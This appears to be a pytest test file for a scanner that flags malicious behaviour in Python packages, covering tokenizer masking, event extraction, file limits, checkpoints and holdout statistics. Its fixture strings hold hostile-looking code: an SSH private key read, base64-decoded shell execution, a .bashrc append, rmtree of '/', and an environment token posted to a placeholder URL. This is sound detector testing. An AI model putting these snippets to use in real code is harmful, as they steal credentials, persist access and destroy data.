import io
import json
import random
import tokenize

import numpy as np
import pytest


def test_masking_equals_the_tokenizer():
    """Strings and comments of valid texts are blanked where Python's own tokenizer finds them."""
    from brindle.sources.lexical import masked

    r = random.Random(4)
    parts = ["x = 1\n", "y = 'a # b'\n", 'z = "it\'s"  # c "d"\n', 's = """a\n# no\n"""\n', "t = ''\n", "u = r'\\d\\'' + \"\\\\\"\n", "def f(a):\n    return a  # '''\n", "v = '''x''' + 'y'\n", "w = '\\\\'\n", "q = \"\"\"one\"\"\"\n", "# '''\n", "\n"]
    for _ in range(200):
        text = "".join(r.choice(parts) for _ in range(r.randint(1, 8)))
        lines = [list(x) for x in text.split("\n")]
        for t in tokenize.generate_tokens(io.StringIO(text).readline):
            if t.type in (tokenize.STRING, tokenize.COMMENT):
                lead = len(t.string) - len(t.string.lstrip("rRbBuUfF")) if t.type == tokenize.STRING else 0
                for n in range(t.start[0], t.end[0] + 1):
                    a = t.start[1] + lead if n == t.start[0] else 0
                    b = t.end[1] if n == t.end[0] else len(lines[n - 1])
                    lines[n - 1][a:b] = " " * (b - a)
        assert masked(text)[0] == ["".join(x) for x in lines], text


def test_lexical_frontend():
    from brindle.sources.lexical import analyse

    text = """import os, base64 as b64
from subprocess import run as go
p = os.path.join
def fetch(u):
\tdata = open("/home/u/.ssh/id_rsa").read()
\tgo(["sh", "-c", b64.b64decode(data)])
\timportlib.import_module("json")
shutil = __import__
'''
eval("not code")
'''
os.environ["TOKEN"]; urllib.request.urlopen("http://x")
open(".bashrc", "a")
shutil.rmtree("/")
if __name__ == "__main__":
    fetch("u")
"""
    a = analyse(text, "pkg/setup.py")
    got = [(e["op"], e["target"], e["function"], e["phase"], e["line"]) for e in a["events"]]
    assert got == [
        ("IMPORT", "base64", "<module>", "install", 1), ("IMPORT", "os", "<module>", "install", 1), ("IMPORT", "subprocess.run", "<module>", "install", 2),
        ("SENSITIVE_FILE_READ", "/home/u/.ssh/id_rsa", "fetch", "runtime", 5), ("DECODE", "sh", "fetch", "runtime", 6), ("PROCESS_EXEC", "sh", "fetch", "runtime", 6), ("IMPORT", "json", "fetch", "runtime", 7),
        ("NETWORK_RECEIVE", "TOKEN", "<module>", "install", 12), ("ENV_READ", "TOKEN", "<module>", "install", 12), ("PERSISTENCE_WRITE", ".bashrc", "<module>", "install", 13), ("FILE_DELETE", "/", "<module>", "install", 14),
    ]
    assert a["guards"] == [{"first": 15, "last": 17}] and a["main_functions"] == ["fetch"] and a["functions"] == ["fetch"]
    assert not any(g[1] == "not code" for g in got)
    assert len(analyse("import a\n" * 3 + "eval(1)\n" * 3, "x.py")["events"]) == 4  # imports once, calls once a line
    cut = analyse("\n".join(f"eval({i})" for i in range(30)), "x.py", 10)
    assert cut["event_limit_reached"] and len(cut["events"]) == 10
    assert analyse("", "x.py")["events"] == [] and analyse("x = 'open", "x.py")["events"] == []


def test_lexical_scan_reads_what_no_parser_takes(spark):
    from brindle.plans.scan import scan_lexically

    text = b"def f(:\n    token = os.getenv('API_TOKEN')\n    requests.post('u', data=token)\n"
    s = scan_lexically(spark.createDataFrame([("t", "a.py", bytearray(text)), ("u", "b.py", bytearray(b"x = 1")), ("v", None, None)], "target_id string, path string, content binary"))
    got = {r.target_id: (r.rule_score, r.verdict) for r in s["decisions"].collect()}
    assert got == {"t": (24.0, "low-signal"), "u": (0.0, "low-signal"), "v": (0.0, "low-signal")}
    assert [r.reason for r in s["paths"].collect()] == ["sensitive data appears near an outbound transfer; browser value flow was not proven"]


def test_planned_files(spark):
    from brindle.sources.readers import plan_files

    names = ["b.py", "a/z.py", "a/b/c.py", "c.PY", "x.txt", "build/q.py", "a.py", "huge.py", "gone.py"]
    files = spark.createDataFrame([(f"/r/{n}", n, None if n == "gone.py" else 500 if n == "huge.py" else 10) for n in names], "path string, relative string, length long")
    got = lambda *limits: {r.relative: r.state for r in plan_files(files, *limits).collect()}
    assert got(100, 10, 1000) == {"a.py": "taken", "b.py": "taken", "c.PY": "taken", "gone.py": "unreadable", "huge.py": "oversized", "a/z.py": "taken", "a/b/c.py": "taken"}
    assert got(100, 2, 1000) == {"a.py": "taken", "b.py": "taken", "c.PY": "file limit reached"}
    assert got(100, 10, 45) == {"a.py": "taken", "b.py": "taken", "c.PY": "taken", "gone.py": "unreadable", "huge.py": "oversized", "a/z.py": "taken", "a/b/c.py": "total byte limit reached"}
    assert plan_files(files.filter("false")).count() == 0


def test_caps_and_training_rows(spark, tmp_path):
    from brindle.sources import readers as R

    path = str(tmp_path / "p.jsonl")
    (tmp_path / "p.jsonl").write_text("\n".join(json.dumps({"sample_id": str(i), "label": 0, "score": 0.1, "split": "test", "group_id": "g"}) for i in range(5)))
    assert R.predictions(spark, path, R.ONE_MACHINE).count() == 5
    for caps in (R.Caps(rows=4), R.Caps(total_bytes=100), R.Caps(line_bytes=20)):
        with pytest.raises(Exception, match="over its caps"):
            R.predictions(spark, path, caps).collect()
    with pytest.raises(ValueError):
        R.Caps(rows=0)
    lines = lambda *rows: spark.createDataFrame([(json.dumps(x),) for x in rows], "value string")
    files = spark.createDataFrame([("a.py", bytearray(b"x = 1"))], "path string, content binary")
    assert R.training_rows(lines({"label": 1, "path": "a.py"}), files).first().source == "x = 1"
    for rows in ([{"label": 1, "path": "b.py"}], [{"label": 1}], [{"label": 1, "source": "x", "more": 1}], [{"label": 1, "source": "x"}, {"label": 1, "source": "x"}]):
        with pytest.raises(Exception, match="training row"):
            R.training_rows(lines(*rows), files).collect()


def test_checkpoints(spark, tmp_path):
    from brindle.operators.transformer import random_weights
    from brindle.sources import checkpoints as C

    w = random_weights(2, 16, 8, 8, 1, 16)
    data, manifest = C.exported(w, {"temperature": 2})
    back = C.imported(data, manifest)
    assert set(back) == set(w) and all(np.array_equal(back[k], w[k]) for k in w)
    C.save(spark, str(tmp_path / "c"), w, {"temperature": 2})
    assert C.load(spark, str(tmp_path / "c"))[1] == {"temperature": 2}
    for broken in ({**manifest, "format": "x"}, {**manifest, "bytes": 1}, {**manifest, "tensors": manifest["tensors"][1:]}, {**manifest, "tensors": [*manifest["tensors"][:-1], {**manifest["tensors"][-1], "shape": [1]}]}):
        with pytest.raises(ValueError):
            C.imported(data, broken)
    with pytest.raises(ValueError):
        C.imported(data[:-1] + b"\0\0", manifest)


def test_study_records(spark):
    from brindle.operators import records as S

    rows = spark.createDataFrame([("a", 0, "test", "g"), ("b", 1, "test", "h"), ("c", 1, "validation", "h"), ("c", 1, "validation", "k")], "sample_id string, label int, split string, group_id string")
    assert {(r.problem, r.value) for r in S.study_problems(rows).collect()} == {("sample_id is not unique", "c"), ("split lacks a label", "validation 0"), ("group crosses labels or splits", "h")}
    order = S.scan_order(rows, 3)
    assert order.select("rank").distinct().count() == 3 and order.collect() == S.scan_order(rows, 3).collect()
    plan = spark.createDataFrame([("x", 1, "p", "1", "s", 5), ("y", 2, "p", "1", "s", 5), ("y", 2, "p", "1", "s", 5)], "storage_name string, rank int, project string, version string, sha256 string, size int")
    mine = spark.createDataFrame([("x", 1, "p", "1", "s", 6), ("y", 2, "p", "1", "s", 5), ("z", 1, "p", "1", "s", 5)], plan.schema)
    assert {tuple(r) for r in S.plan_problems(mine, plan).collect()} == {("x", "differs in size"), ("y", "is in the plan more than once"), ("z", "is not in the plan")}


def test_holdout_report(spark):
    from brindle.functions.statistics import clopper_pearson_upper
    from brindle.operators.study import holdout_report

    pairs = spark.createDataFrame([(f"g{i}", 0.1, 0.2) for i in range(500)] + [("g1", 0.9, 0.2)], "group_id string, b_score double, c_score double")
    b, c = holdout_report(pairs, 0.5, 0.5).collect()
    assert (b.alert_groups, c.alert_groups, c.passed, b.baseline_only, b.neither) == (1, 0, True, 1, 499) and c.fpr_upper_bound == clopper_pearson_upper(0, 500, 0.975)


def test_canonical_fingerprint(spark):
    import hashlib

    from brindle.functions.fingerprint import canonical_fingerprint

    rows = [{"k": str(i), "x": i / 3, "n": None if i % 2 else i} for i in range(40)]
    d = spark.createDataFrame([(r["k"], r["x"], r["n"]) for r in rows], "k string, x double, n long").repartition(5)
    want = hashlib.sha256(json.dumps(sorted(rows, key=lambda r: r["k"]), sort_keys=True, separators=(",", ":")).encode()).hexdigest()
    assert canonical_fingerprint(d, ["k", "x", "n"], "k").first()[0] == want


def test_predictions_are_read_back_whatever_their_size(spark, monkeypatch):
    """The query holds its input to no caps: all rows of the table come back."""
    from brindle.plans import source_queries as Q

    held, capped = [], Q.readers.capped
    monkeypatch.setattr(Q.readers, "capped", lambda lines, caps: held.append(caps) or capped(lines, caps))
    folder = "/root/testdata/sf0.001"
    assert Q.s11_predictions(spark, folder).count() == spark.read.parquet(f"{folder}/orders.parquet").count()
    assert held == [Q.readers.Caps()]
